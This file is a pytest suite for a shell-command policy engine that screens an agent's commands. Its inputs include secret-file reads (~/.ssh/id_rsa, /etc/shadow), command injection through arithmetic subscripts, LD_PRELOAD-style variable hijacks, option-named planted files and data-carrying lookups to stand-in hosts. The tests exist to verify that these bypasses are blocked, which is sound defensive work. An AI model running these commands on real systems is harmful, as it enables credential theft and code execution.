"""Bypass classes judged as classes: every assignment form, every steering variable,
every secret, every option spelling. Each test would fail if one member of a class
were dropped from the rules (a variable from the list, a form from the parser)."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agent_shell_bridge.policy import PolicyEngine
from agent_shell_bridge.policy.options import SPECS, normalise
from agent_shell_bridge.policy.rules.common import MULTI_CALL, PROGRAM_ALIASES
from agent_shell_bridge.policy.secrets import SECRET_NAMES, is_secret, secret_paths
from agent_shell_bridge.policy.shell_parse import Word, parse_command
from agent_shell_bridge.types import Decision

STEERING = [
    "PATH", "HOME", "CDPATH", "OLDPWD", "IFS", "BASH_ENV", "ENV", "GIT_DIR",
    "GIT_SSH_COMMAND", "GIT_CONFIG_GLOBAL", "LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH",
    "PYTHONSTARTUP", "PS4", "PROMPT_COMMAND", "PAGER", "NODE_OPTIONS", "SHELLOPTS",
]  # fmt: skip
# Forms that assign a plain variable harmlessly when the name is an ordinary one.
QUIET_FORMS = [
    "for {v} in x; do echo hi; done",
    "select {v} in a; do break; done",
    "printf -v {v} %s x",
    "printf -v{v} %s x",
    "read {v} < README.md",
    "read -r a {v} < README.md",
    "read -a {v} < README.md",
    "mapfile {v} < README.md",
    "readarray -t {v} < README.md",
    "echo $(({v}=1))",
    # += ++ -- read the old value first: arithmetic on a variable the command did not
    # set asks (its value may be code), so each form starts from a number.
    "echo $(({v}=0, {v}+=1))",
    "echo $(({v}=0, ++{v}))",
    "echo $(({v}=0, {v}--))",
]
# Forms that always ask, whatever the name.
LOUD_FORMS = [
    "{v}=x ls",
    "{v}=x",
    "declare {v}=x",
    "typeset {v}=x",
    "local {v}=x",
    "export {v}=x",
    "readonly {v}=x",
    "let {v}=1",
    "(({v}=1))",
]


@pytest.fixture(scope="module")
def engine(tmp_path_factory: pytest.TempPathFactory) -> PolicyEngine:
    root = tmp_path_factory.mktemp("proj")
    (root / "README.md").write_text("说明\n", encoding="utf-8")
    return PolicyEngine(root)


@pytest.mark.parametrize("form", QUIET_FORMS + LOUD_FORMS)
@pytest.mark.parametrize("var", STEERING)
def test_assigning_a_steering_variable_asks_in_every_form(
    engine: PolicyEngine, form: str, var: str
) -> None:
    verdict = engine.check_command(form.format(v=var))
    assert verdict.decision is not Decision.ALLOW, (form, var, verdict)


@pytest.mark.parametrize("form", QUIET_FORMS)
def test_plain_variables_assigned_the_same_ways_run_without_asking(
    engine: PolicyEngine, form: str
) -> None:
    verdict = engine.check_command(form.format(v="count"))
    assert verdict.decision is Decision.ALLOW, (form, verdict)


@pytest.mark.parametrize("form", QUIET_FORMS[:9])
def test_array_elements_with_code_in_the_subscript_ask(engine: PolicyEngine, form: str) -> None:
    for name in ("'a[$(id)]'", '"a[\\$(id)]"', "'a[`id`]'"):
        verdict = engine.check_command(form.format(v=name))
        assert verdict.decision is not Decision.ALLOW, (form, name, verdict)


@pytest.mark.parametrize(
    "command",
    [
        "[[ {x} -eq 0 ]]",
        "[[ 0 -ne {x} ]]",
        "[[ {x} -lt 1 ]]",
        "test -v {x}",
        "[ -v {x} ]",
        "[[ -v {x} ]]",
        "echo $(( {x} ))",
        "echo ${{a[{x}]}}",
        'echo "${{a[{x}]}}"',
    ],
)
def test_text_evaluated_as_arithmetic_with_code_in_a_subscript_asks(
    engine: PolicyEngine, command: str
) -> None:
    for x in ("'a[$(id)]'", '"a[\\$(id)]"', "'a[`id`]'"):
        verdict = engine.check_command(command.format(x=x))
        assert verdict.decision is not Decision.ALLOW, (command, x, verdict)
    assert engine.check_command(command.format(x="1")).decision is Decision.ALLOW


# -- secrets -----------------------------------------------------------------


@pytest.fixture(scope="module")
def home_project(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, PolicyEngine]:
    home = tmp_path_factory.mktemp("home").resolve()
    for name in SECRET_NAMES:
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text("secret\n", encoding="utf-8")
    (home / "notes.txt").write_text("笔记\n", encoding="utf-8")
    return home, PolicyEngine(home, home=home)


def test_the_secret_list_covers_the_issue_list(tmp_path: Path) -> None:
    required = [
        ".ssh/id_rsa", ".gnupg/x", ".aws/credentials", ".netrc", ".pypirc",
        ".docker/config.json", ".config/gh/hosts.yml", ".kube/config", ".authinfo",
        ".authinfo.gpg", ".authinfo-work", ".password-store/x.gpg",
        ".local/share/keyrings/login.keyring",
    ]  # fmt: skip
    for rel in required:
        assert is_secret(tmp_path / rel, tmp_path), rel
    for rel in ("notes.txt", ".docker/daemon.json", ".config/ghost", "src/.ssh/x", ".sshx"):
        assert not is_secret(tmp_path / rel, tmp_path), rel
    assert tmp_path / ".ssh" in secret_paths(tmp_path)


def test_a_link_into_a_secret_is_a_secret(tmp_path: Path) -> None:
    (tmp_path / ".ssh").mkdir()
    os.symlink(".ssh", tmp_path / "innocent")
    assert is_secret(tmp_path / "innocent" / "id_rsa", tmp_path)
    assert is_secret(tmp_path / "src" / ".." / ".SSH" / "id_rsa", tmp_path)


@pytest.mark.parametrize("name", SECRET_NAMES)
@pytest.mark.parametrize(
    "template", ["cat {p}", "head -n1 {p}", "base64 {p}", "sort {p}", "grep x {p}", "wc {p}"]
)
def test_secrets_are_never_read_without_asking_even_at_home(
    home_project: tuple[Path, PolicyEngine], name: str, template: str
) -> None:
    home, engine = home_project
    for spelled in (name, f"~/{name}", f"./{name}", str(home / name)):
        verdict = engine.check_command(template.format(p=spelled))
        assert verdict.decision is not Decision.ALLOW, (spelled, verdict)
    assert engine.check_path(name, "read").decision is Decision.DENY
    assert engine.check_command(template.format(p="notes.txt")).decision is Decision.ALLOW


def test_recursive_searches_over_home_ask(home_project: tuple[Path, PolicyEngine]) -> None:
    _, engine = home_project
    for command in ("grep -r x .", "grep -R x", "rg x", "rg x ~", "diff -r --no-dereference . ."):
        assert engine.check_command(command).decision is not Decision.ALLOW, command
    assert engine.check_command("grep x notes.txt").decision is Decision.ALLOW


# -- options -----------------------------------------------------------------


def _norm(program: str, line: str) -> list[str] | str:
    out = normalise(SPECS[program], [Word(t) for t in line.split()])
    return out if isinstance(out, str) else [w.text for w in out]


@pytest.mark.parametrize(
    ("program", "line", "expected"),
    [
        ("sort", "--co=sh a", ["--compress-program=sh", "--", "a"]),
        ("sort", "--out=x a", ["--output=x", "--", "a"]),
        ("sort", "--output x a", ["--output=x", "--", "a"]),
        ("sort", "-ruo.git/config a", ["--reverse", "--unique", "--output=.git/config", "--", "a"]),
        ("sort", "a -o x", ["--output=x", "--", "a"]),
        ("sort", "-- -o x", ["--", "-o", "x"]),
        ("sort", "-k 2 -t, a", ["--key=2", "--field-separator=,", "--", "a"]),
        ("tree", "-Co F .", ["-C", "--output=F", "--", "."]),
        ("date", "-us @0", ["--utc", "--set=@0", "--"]),
        ("date", "-Iseconds", ["--iso-8601=seconds", "--"]),
        ("grep", "-rnA3 x .", ["--recursive", "-n", "-A", "3", "--", "x", "."]),
        ("grep", "-5 x f", ["-5", "--", "x", "f"]),
        ("wc", "--files0=-", ["--files0-from=-", "--"]),
    ],
)
def test_option_spellings_are_normalised(program: str, line: str, expected: list[str]) -> None:
    assert _norm(program, line) == expected


@pytest.mark.parametrize(
    ("program", "line", "why"),
    [
        ("sort", "--c a", "ambiguous"),
        ("sort", "--zzz a", "not an option"),
        ("sort", "-Q a", "not an option"),
        ("sort", "--reverse=1 a", "takes no value"),
        ("sort", "-o", "needs a value"),
        ("tree", "--output=x", "not an option"),
        ("date", "--r=1", "ambiguous"),
    ],
)
def test_unknown_or_ambiguous_options_are_refused(program: str, line: str, why: str) -> None:
    result = _norm(program, line)
    assert isinstance(result, str) and why in result, result


def test_computed_words_that_could_become_options_are_refused() -> None:
    spec = SPECS["sort"]
    assert isinstance(normalise(spec, [Word("$x", literal=False, expansion=True)]), str)
    assert isinstance(normalise(spec, [Word('"$(cat f)"', literal=False, substitution=True)]), str)
    ok = normalise(spec, [Word("*.txt", literal=False, glob=True)])
    assert not isinstance(ok, str)
    include = Word("--include=*.py", literal=False, glob=True)
    assert not isinstance(normalise(SPECS["grep"], [include]), str)


def test_a_planted_file_named_like_an_option_stops_a_glob(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("a\n", encoding="utf-8")
    engine = PolicyEngine(tmp_path)
    assert engine.check_command("sort *").decision is Decision.ALLOW
    (tmp_path / "--compress-program=sh").write_text("", encoding="utf-8")
    verdict = engine.check_command("sort *")
    assert verdict.decision is Decision.CONFIRM
    assert "option" in verdict.reason


@pytest.mark.parametrize(
    "command",
    [
        "npm view x --registry=https://host/",
        "npm view left-pad",
        "npm search foo",
        "yarn info react",
        "npm ls --registry https://evil/",
        "git remote show https://host/DATA",
        "git remote show origin",
        "git ls-remote https://host/x",
        "git fetch",
        "go list -m host/DATA@latest",
        "go list -m -versions golang.org/x/text",
        "go list -m all",
        "pip download requests --index-url https://evil/simple",
    ],
)
def test_network_lookups_ask_and_say_so(engine: PolicyEngine, command: str) -> None:
    verdict = engine.check_command(command)
    assert verdict.decision is Decision.CONFIRM
    assert "network" in verdict.reason or "registry" in verdict.reason, verdict


PROTECTED = [
    ".git/config",
    ".git/hooks/pre-commit",
    ".GIT/hooks/post-checkout",
    ".agent-shell/allowlist.el",
    ".agent-shell/config.el",
    ".agent-shell/logs/2026-12-01-x.org",
    ".agent-shell/sessions/s1.json",
    ".agent-shell/snapshots/index.jsonl",
]
WRITERS = [
    "sort -o {p} README.md",
    "sort --output={p} README.md",
    "sort --out={p} README.md",
    "sort -uo{p} README.md",
    "sort README.md --output {p}",
    "tree -o {p}",
    "tree -Co {p} .",
    "uniq README.md {p}",
    "git diff --output={p}",
    "git archive -o {p} HEAD",
    "find . -fprint {p}",
    "tee {p}",
    "echo x > {p}",
    "echo x >> {p}",
    "cp README.md {p}",
    "curl -o{p} https://example.com/",
    "dd if=README.md of={p}",
]


@pytest.mark.parametrize("writer", WRITERS)
def test_every_way_of_writing_a_protected_file_is_refused(
    engine: PolicyEngine, writer: str
) -> None:
    for target in PROTECTED:
        verdict = engine.check_command(writer.format(p=target))
        assert verdict.decision is Decision.DENY, (writer, target, verdict)
    assert engine.check_command(writer.format(p="build/out.txt")).decision is not Decision.DENY


# -- arithmetic on values the command did not set ------------------------------

# Ways a variable n gets a value the command does not control.
DATA_SOURCES = [
    "read n < README.md; {use}",
    "read -r n x < README.md; {use}",
    "mapfile -t n < README.md; {use}",
    "readarray n < README.md; {use}",
    "printf -v n %s README.md; {use}",
    "while read -r n; do {use}; done < README.md",
    "cat README.md | while read n; do {use}; done",
    "for n in $(cat README.md); do {use}; done",
    "for n in *; do {use}; done",
    "for n in a b; do {use}; done",
    'for n in "$HOME"; do {use}; done',
    "for i in 1 2; do {use}; read n < README.md; done",
    "echo $((n = 1)); for i in 1; do {use}; read n < README.md; done",
    "{use}",
]
# Places where bash evaluates n's value as an arithmetic expression.
ARITHMETIC_USES = [
    "echo $((n * 2))",
    "echo $(( $n + 1 ))",
    "echo $((${n} + 1))",
    "echo $[n]",
    'echo "$((n))"',
    "[[ $n -gt 0 ]]",
    '[[ "$n" -eq 1 ]]',
    "[[ n -ne 0 ]]",
    "[[ 1 -le n ]]",
    "echo ${arr[n]}",
    "echo ${PWD:n}",
    "echo ${PWD:0:n}",
    "echo $((arr[0] + n))",
]


# Arithmetic nested in another expansion, which tree-sitter reads in several ways.
NESTED_USES = [
    "echo ${x:-$[n]}",
    "echo ${x:-${arr[n]}}",
    'echo "${x:-$((n))}"',
    "echo ${x:-$((n))}",
]


@pytest.mark.parametrize("use", ARITHMETIC_USES + NESTED_USES)
@pytest.mark.parametrize("source", DATA_SOURCES)
def test_arithmetic_on_a_value_the_command_did_not_set_asks(
    engine: PolicyEngine, source: str, use: str
) -> None:
    """A value such as a[$(cmd)] runs cmd wherever bash evaluates it as arithmetic."""
    verdict = engine.check_command(source.format(use=use))
    assert verdict.decision is not Decision.ALLOW, (source, use, verdict)


@pytest.mark.parametrize("use", ARITHMETIC_USES)
@pytest.mark.parametrize(
    "source",
    [
        "for n in 1 2 3; do {use}; done",
        "for n in {{1..4}}; do {use}; done",
        "for n in -1 0; do {use}; done",
        "echo $((n = 5)); {use}",
        "echo $((n = 5, arr = 1)); {use}",
    ],
)
def test_arithmetic_on_numbers_the_command_set_runs(
    engine: PolicyEngine, source: str, use: str
) -> None:
    command = source.format(use=use.replace("arr", "n"))
    assert engine.check_command(command).decision is Decision.ALLOW, command


@pytest.mark.parametrize(
    "command",
    [
        "echo $((1 + 2))",
        "[[ 3 -gt 2 ]]",
        "[[ $# -eq 0 ]]",
        "echo $((RANDOM % 6))",
        "echo $(( ${#PWD} * 2 ))",
        'for f in src/*.py; do wc -l "$f"; done',
        'for f in *.md; do head -n 2 -- "$f"; done',
        'for f in README.md; do grep -c x "$f"; done',
        "for d in src tests; do ls $d; done",
    ],
)
def test_harmless_arithmetic_and_loops_run_without_asking(
    engine: PolicyEngine, command: str
) -> None:
    assert engine.check_command(command).decision is Decision.ALLOW, command


def test_a_loop_word_is_judged_as_what_it_names(engine: PolicyEngine) -> None:
    """ "$f" in a loop over words is each word: reads outside still ask."""
    for command in (
        'for f in README.md /etc/passwd; do cat "$f"; done',
        'for f in ~/.ssh/*; do cat "$f"; done',
        'for f in README.md; do f=/etc/passwd; cat "$f"; done',
        'for f in README.md; do read f < README.md; cat "$f"; done',
        'for f in README.md; do sort -o "$f" README.md; done',
        "for f in ls; do $f; done",
    ):
        assert engine.check_command(command).decision is not Decision.ALLOW, command


# -- substitutions inside ${...} operators -----------------------------------

SUBSTITUTIONS = ["$(touch p)", "`touch p`", "'$(touch p)'", '"$(touch p)"']
OPERATOR_FORMS = [
    'echo "${{x:-{s}}}"',
    "echo ${{x:-{s}}}",
    'echo "${{x-{s}}}"',
    'echo "${{x:+{s}}}"',
    'echo "${{x/{s}/y}}"',
    'echo "${{x//y/{s}}}"',
    'echo "${{x#{s}}}"',
    'echo "${{x%%{s}}}"',
    'echo "${{x:?{s}}}"',
    'echo "${{arr[@]:-{s}}}"',
    'cat "${{x:-{s}}}"',
]


@pytest.mark.parametrize("form", OPERATOR_FORMS)
@pytest.mark.parametrize("sub", SUBSTITUTIONS)
def test_substitutions_inside_expansion_operators_ask(
    engine: PolicyEngine, form: str, sub: str
) -> None:
    command = form.format(s=sub)
    if sub.startswith("'") and not form.startswith('echo "'):
        return  # single quotes in an unquoted ${...} do quote: nothing runs
    assert engine.check_command(command).decision is not Decision.ALLOW, command


def test_text_that_only_looks_like_a_substitution_runs(engine: PolicyEngine) -> None:
    for command in (
        "echo '$(x)' '`y`'",
        'echo "\\$(x)" "\\`y\\`"',
        "echo ${x:-'$(not run)'}",
        'echo "<(no pipe)"',
        "ls # $(touch p)",
        "echo $((1<(2)))",
        "grep -n '`' README.md",
    ):
        assert engine.check_command(command).decision is Decision.ALLOW, command


# -- git against another repository -------------------------------------------


@pytest.fixture
def nested(tmp_path: Path) -> tuple[Path, PolicyEngine]:
    """A project whose tree holds repositories git would use instead of its own."""
    root = tmp_path / "proj"
    (root / ".git").mkdir(parents=True)
    (root / "src" / "pkg").mkdir(parents=True)
    (root / "vendor" / "lib" / ".git").mkdir(parents=True)
    (root / "wt").mkdir()
    (root / "wt" / ".git").write_text("gitdir: /elsewhere\n", encoding="utf-8")
    bare = root / "bare.git"
    for sub in ("objects", "refs"):
        (bare / sub).mkdir(parents=True)
    (bare / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
    os.symlink("vendor/lib", root / "lib_link")
    return root, PolicyEngine(root)


GIT_READS = ["git status", "git log -1", "git diff", "git show HEAD", "git grep x"]


@pytest.mark.parametrize("git", GIT_READS)
@pytest.mark.parametrize("where", ["vendor/lib", "vendor/lib/.git", "wt", "bare.git", "lib_link"])
def test_git_in_another_repository_asks(
    nested: tuple[Path, PolicyEngine], git: str, where: str
) -> None:
    root, engine = nested
    rest = git.removeprefix("git ")
    for command in (
        f"git -C {where} {rest}",
        f"cd {where} && {git}",
        f"cd {where}; {git}",
        f"git -C {where.split('/')[0]} -C ./{'/'.join(where.split('/')[1:]) or '.'} {rest}",
    ):
        assert engine.check_command(command).decision is not Decision.ALLOW, command
    assert engine.check_command(git, cwd=root / where).decision is not Decision.ALLOW


@pytest.mark.parametrize("git", GIT_READS)
def test_git_in_the_project_s_own_repository_runs(
    nested: tuple[Path, PolicyEngine], git: str
) -> None:
    root, engine = nested
    rest = git.removeprefix("git ")
    for command in (git, f"git -C src {rest}", f"cd src/pkg && {git}", f"git -C vendor {rest}"):
        assert engine.check_command(command).decision is Decision.ALLOW, command
    assert engine.check_command(git, cwd=root / "src" / "pkg").decision is Decision.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "git --git-dir=vendor/lib/.git log",
        "git --work-tree=vendor/lib status",
        "GIT_DIR=vendor/lib/.git git log",
        "GIT_WORK_TREE=vendor/lib git status",
        "GIT_CONFIG_GLOBAL=README.md git log",
        "GIT_CONFIG_PARAMETERS=\"'core.pager=id'\" git log",
        "GIT_CEILING_DIRECTORIES=/ git status",
        "git -C /tmp status",
        "git -C .. status",
        "cd .. && git status",
    ],
)
def test_git_pointed_elsewhere_asks(nested: tuple[Path, PolicyEngine], command: str) -> None:
    _, engine = nested
    assert engine.check_command(command).decision is not Decision.ALLOW, command


# -- git configuration --------------------------------------------------------

CONFIG_QUERIES = [
    "--get user.name",
    "--get-all remote.origin.url",
    "-l",
    "--list",
    "--get-regexp x",
]


@pytest.mark.parametrize("query", CONFIG_QUERIES)
def test_git_config_queries_read_only_the_project_s_file_without_asking(
    nested: tuple[Path, PolicyEngine], query: str
) -> None:
    _, engine = nested
    for scope in ("", "--global", "--system", "--includes --local", "--blob HEAD:x"):
        command = f"git config {scope} {query}".replace("  ", " ")
        assert engine.check_command(command).decision is not Decision.ALLOW, command
    for scope in ("--local", "--worktree", "--file .git/config", "-f .git/config"):
        command = f"git config {scope} {query}"
        assert engine.check_command(command).decision is Decision.ALLOW, command
    assert engine.check_command("git var -l").decision is not Decision.ALLOW
    assert engine.check_command("git var GIT_AUTHOR_IDENT").decision is Decision.ALLOW


# -- files named by options ------------------------------------------------------

FILE_OPTIONS = [
    "git grep -f {p}",
    "git grep -if {p}",
    "git grep -f{p}",
    "git grep --file={p}",
    "git grep --file {p} -- src",
    "git blame --contents {p} README.md",
    "git ls-files -X {p}",
    "grep -f {p} README.md",
    "grep -nf {p} README.md",
    "grep --file={p} README.md",
    "rg -f {p} notes.txt",
    "rg --file {p} notes.txt",
    "jq --rawfile k {p} -n '$k'",
    "jq --slurpfile k {p} -n '$k'",
    "diff --from-file={p} README.md",
]


@pytest.mark.parametrize("template", FILE_OPTIONS)
def test_a_file_named_by_an_option_is_judged_as_a_read(
    home_project: tuple[Path, PolicyEngine], template: str
) -> None:
    home, engine = home_project
    (home / ".git").mkdir(exist_ok=True)
    # Spelled out: bash leaves a ~ after "=" or glued to an option as it is.
    for target in ("/etc/shadow", f"{home}/.ssh/id_rsa", f"{home}/.aws/credentials"):
        command = template.format(p=target)
        assert engine.check_command(command).decision is not Decision.ALLOW, command
    assert engine.check_command(template.format(p="notes.txt")).decision is Decision.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "jq -n 'import \"x\" as x; x::y'",
        'jq -n \'import "config" as $c {search: "~/.docker"}; $c\'',
        "jq -n 'include \"x\"; .'",
        "jq -n '\"x\" | modulemeta'",
        "jq -L /etc .",
        "jq -L/etc .",
        "jq -nL /etc .",
        "jq --library-path /etc .",
        "jq -f prog.jq",
        "jq -nf prog.jq",
        "sed -f script.sed README.md",
        "awk -f prog.awk README.md",
        "strings @options",
        "find . -files0-from list",
    ],
)
def test_programs_and_modules_loaded_from_files_ask(engine: PolicyEngine, command: str) -> None:
    assert engine.check_command(command).decision is not Decision.ALLOW, command


# -- one program, many names ------------------------------------------------------

ALIAS_PROBES = [
    "{n} '{{print}}' /etc/shadow",
    "{n} 'BEGIN {{ system(\"id\") }}'",
    "{n} -n p /etc/shadow",
    "{n} 'w out' README.md",
    "{n} -r x /etc",
    "{n} x /etc/shadow",
    "{n} /etc/shadow",
    "{n} -o .git/config README.md",
    "{n} README.md .git/config",
    "{n} --version",
    "{n} README.md",
]


@pytest.mark.parametrize("alias", sorted(PROGRAM_ALIASES))
def test_every_other_name_of_a_program_gets_its_rules(engine: PolicyEngine, alias: str) -> None:
    canonical = PROGRAM_ALIASES[alias]
    for probe in ALIAS_PROBES:
        expected = engine.check_command(probe.format(n=canonical)).decision
        assert engine.check_command(probe.format(n=alias)).decision is expected, (alias, probe)
        for multi in MULTI_CALL:
            applet = engine.check_command(probe.format(n=f"{multi} {canonical}")).decision
            assert applet is expected, (multi, canonical, probe)


# -- outputs after -- ------------------------------------------------------------

OUTPUT_AFTER_DASHES = [
    "uniq -- README.md {p}",
    "uniq -c -- README.md {p}",
    "uniq -- -c {p}",
    "sort -o {p} -- README.md",
    "tee -- {p}",
    "tee -a -- {p}",
    "cp -- README.md {p}",
    "mv -- README.md {p}",
    "install -- README.md {p}",
    "ln -s -- README.md {p}",
    "dd -- if=README.md of={p}",
    "split -- README.md {p}",
    "csplit -f {p} -- README.md 1",
    "touch -- {p}",
]


@pytest.mark.parametrize("writer", OUTPUT_AFTER_DASHES)
def test_an_output_after_dashes_is_still_an_output(engine: PolicyEngine, writer: str) -> None:
    for target in PROTECTED:
        verdict = engine.check_command(writer.format(p=target))
        assert verdict.decision is Decision.DENY, (writer, target, verdict)
    assert engine.check_command(writer.format(p="build/out")).decision is Decision.CONFIRM


def test_reading_only_after_dashes_still_runs(engine: PolicyEngine) -> None:
    for command in ("uniq -- README.md", "sort -- README.md", "uniq -f 1 README.md", "sort -- -o"):
        assert engine.check_command(command).decision is Decision.ALLOW, command
    for command in ("hostname -- -x", "date -- 0101000030", "uniq -- -x out"):
        assert engine.check_command(command).decision is Decision.CONFIRM, command


def test_a_file_named_like_an_option_stops_loops_and_globs(tmp_path: Path) -> None:
    """A loop over * hands each file name to the program: "$f" may be -delete."""
    (tmp_path / ".git").mkdir()
    (tmp_path / "a.txt").write_text("a\n", encoding="utf-8")
    engine = PolicyEngine(tmp_path)
    commands = [
        'for f in *; do find "$f" -name x; done',
        'for f in *; do wc -l "$f"; done',
        "git log *",
        'for f in *; do git log "$f"; done',
    ]
    for command in commands:
        assert engine.check_command(command).decision is Decision.ALLOW, command
    for planted in ("-delete", "--output=x"):
        (tmp_path / planted).write_text("", encoding="utf-8")
        for command in commands:
            assert engine.check_command(command).decision is not Decision.ALLOW, (planted, command)
        (tmp_path / planted).unlink()
    assert engine.check_command('read x < a.txt; find "$x"').decision is not Decision.ALLOW


def test_loop_bodies_are_walked_again_within_a_budget() -> None:
    """Regression: binding every nested loop walked 8**depth bodies (a 12-deep nest of
    8-word loops did not finish); only the outermost loop binds, within a budget."""
    words = " ".join(f"a{i}" for i in range(8))
    nest = "".join(f"for v{d} in {words}; do " for d in range(12))
    command = nest + 'cat "$v11"; ' + "done; " * 12
    assert len(parse_command(command).commands) < 50
    rebinding = "for f in a; do " * 60 + 'cat "$f"; ' + "done; " * 60
    assert len(parse_command(rebinding).commands) < 200
    flat = "; ".join(f'for f in {words}; do cat "$f"; done' for _ in range(100))
    assert len(parse_command(flat).commands) < 300
